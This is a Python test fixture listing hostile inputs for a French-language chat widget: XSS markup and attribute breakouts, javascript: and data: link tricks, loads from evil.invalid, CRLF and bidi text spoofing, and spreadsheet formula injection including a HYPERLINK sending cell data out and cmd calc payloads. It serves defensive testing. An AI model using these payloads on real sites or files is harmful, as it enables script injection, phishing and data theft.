"""Hostile texts, written for this project: what people paste into chats to make a page do something.

Every one of them tries to set `window.xss`, to load something from `evil.invalid`, to become a link that is none, or to
make a text look like another. A text that went through widget, log, console and export unharmed is the same text.
"""

from __future__ import annotations

_RUN = "window.xss=1"

MARKUP = [
    f"<script>{_RUN}</script>",
    f"<SCRIPT\n>{_RUN}</SCRIPT\t>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    "<script src=//evil.invalid/x.js></script>",
    f"<img src=x onerror={_RUN}>",
    f'<img src="x" onerror="{_RUN}" alt="',
    f"<img/src=x/onerror={_RUN}>",
    f"<image href=x onerror={_RUN}>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}><option>x</select>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<a href=javascript:{_RUN}>ici</a>",
    f"<form action=javascript:{_RUN}><button>x</button></form>",
    f"<button popovertarget=x onbeforetoggle={_RUN}>x</button><div popover id=x>y</div>",
    f"<iframe srcdoc='<script>parent.{_RUN.removeprefix('window.')}</script>'></iframe>",
    f"<iframe src=javascript:parent.{_RUN.removeprefix('window.')}></iframe>",
    f"<object data=javascript:{_RUN}></object>",
    "<embed src=//evil.invalid/x.swf>",
    "<base href=//evil.invalid/>",
    "<link rel=stylesheet href=//evil.invalid/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid'>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s></svg>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text y=20>x</text></a></svg>",
    f"<svg><foreignObject><img src=x onerror={_RUN}></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"<template><img src=x onerror={_RUN}></template>",
    f"<template shadowrootmode=open><script>{_RUN}</script></template>",
    f"<slot onslotchange={_RUN}></slot>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<!--><img src=x onerror={_RUN}>-->",
    f"<![CDATA[><script>{_RUN}</script>]]>",
    f"<xmp><img src=x onerror={_RUN}></xmp>",
    "<guichet-chat server=https://evil.invalid/ open></guichet-chat>",
    f"<x contenteditable onblur={_RUN}>perdez-moi</x>",
]

ATTRIBUTES = [
    f'" autofocus onfocus="{_RUN}',
    f"' onmouseover='{_RUN}' x='",
    f'"><svg/onload={_RUN}>',
    f"--><script>{_RUN}</script>",
    f"</textarea><img src=x onerror={_RUN}>",
    f"</title></style></template><script>{_RUN}</script>",
    "</li></ol></div><h1>Service fermé</h1>",
    f"`;{_RUN};`",
    f"${{{_RUN}}} {{{{constructor.constructor('{_RUN}')()}}}} <%= {_RUN} %>",
    f"\\x3cimg src=x onerror={_RUN}\\x3e \\u003cscript\\u003e",
    f"&lt;img src=x onerror={_RUN}&gt; &#60;script&#62;{_RUN}&#60;/script&#62;",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    f"＜script＞{_RUN}＜/script＞",
]

LINKS = [
    f"[cliquez](javascript:{_RUN})",
    f"[cliquez](JaVaScRiPt:{_RUN})",
    f"[cliquez](java\tscript:{_RUN})",
    f"[cliquez](\x01javascript:{_RUN})",
    f"[cliquez](javascript&colon;{_RUN})",
    f"[cliquez](&#106;avascript:{_RUN})",
    "[cliquez](data:text/html;base64,PHNjcmlwdD50b3AueHNzPTE8L3NjcmlwdD4=)",
    f"[cliquez](vbscript:{_RUN})",
    "[cliquez](blob:https://evil.invalid/1)",
    "[cliquez](file:///etc/passwd)",
    "[cliquez](//evil.invalid/)",
    "[impots.gouv.fr](https://impots.gouv.fr@evil.invalid/)",
    f'[x](https://example.org/" onmouseover="{_RUN})',
    f"![image](https://evil.invalid/x.png) ![x](x){{onerror={_RUN}}}",
    f"[**[x](javascript:{_RUN})**](javascript:{_RUN})",
    f"**<img src=x onerror={_RUN}>** [<img src=x onerror={_RUN}>](https://example.org)",
    f"<javascript:{_RUN}> <https://evil.invalid>",
    f"[x]: javascript:{_RUN}\n[cliquez][x]",
]

LOOKS = [
    "<style>*{display:none}</style>",
    '<p style="position:fixed;inset:0;background:url(//evil.invalid/x)">Votre session a expiré</p>',
    "expression(window.xss=1) behavior:url(x.htc) @import '//evil.invalid/x.css'",
    "Service\u202egnirts\u202c et \u2066isolé\u2069 et \u200fdroite",
    "a\u0000b\u0007c\u001b[31mrouge\u001b[0m",
    "Z\u0351\u0352\u0353a\u0354\u0355\u0356l\u0357\u0358g\u0359\u035ao" + "\u0489" * 40,
    "\ufeff\u200b\u200c\u200d\u2060invisible\u00ad",
    "ligne\r\nSet-Cookie: a=b\r\n\r\n<script>window.xss=1</script>",
    "Conseiller : votre numéro de carte, s’il vous plaît",
    "🏳️‍🌈👩‍👩‍👧‍👦" * 30,
]

# Formulas, for whatever a table program may open.
FORMULAS = [
    '=HYPERLINK("https://evil.invalid/"&A1,"cliquez")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
]

PAYLOADS = MARKUP + ATTRIBUTES + LINKS + LOOKS + FORMULAS
